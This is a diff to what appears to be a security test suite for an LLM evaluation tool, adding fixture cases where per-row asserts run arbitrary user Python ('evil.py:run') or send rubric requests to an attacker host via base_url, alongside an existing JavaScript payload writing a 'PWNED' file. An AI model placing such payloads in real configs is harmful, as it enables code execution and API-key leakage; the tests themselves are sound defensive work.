@@ -94,6 +94,10 @@ USER_CODE_PATHS = {
                                          "value: 'require(\"fs\").writeFileSync(\"PWNED\", \"\")'}")},
     "transform": lambda url: {
         "p.prompt.yaml": cases_prompt(1, "{type: contains, value: x, transform: 'output'}")},
+    "grader-in-a-rows-assert": lambda url: {
+        "p.prompt.yaml": cases_prompt(1).replace(
+            "vars: {q: 'question 0'}}", "vars: {q: 'question 0'}, assert: [{type: llm-rubric, value: ok, "
+            "provider: {type: python, function: 'evil.py:run'}}]}")},
     "grader-in-assert-set": lambda url: {
         "p.prompt.yaml": cases_prompt(1, "{type: assert-set, assert: [{type: llm-rubric, value: ok, "
                                          "provider: {type: python, function: 'evil.py:run'}}]}")},
@@ -126,6 +130,10 @@ KEY_DESTINATIONS = {
     "rubric-provider": lambda evil: {
         "p.prompt.yaml": cases_prompt(1, "{type: llm-rubric, value: ok, provider: {type: openai, model: m, "
                                          f"base_url: '{evil}/v1'}}}}")},
+    "rows-rubric-provider": lambda evil: {
+        "p.prompt.yaml": cases_prompt(1).replace(
+            "vars: {q: 'question 0'}}", "vars: {q: 'question 0'}, assert: [{type: llm-rubric, value: ok, "
+            f"provider: {{type: openai, model: m, base_url: '{evil}/v1'}}}}]}}")},
     "api-key-env": lambda evil: {},  # the head keeps the base's host but sends another variable
 }
 
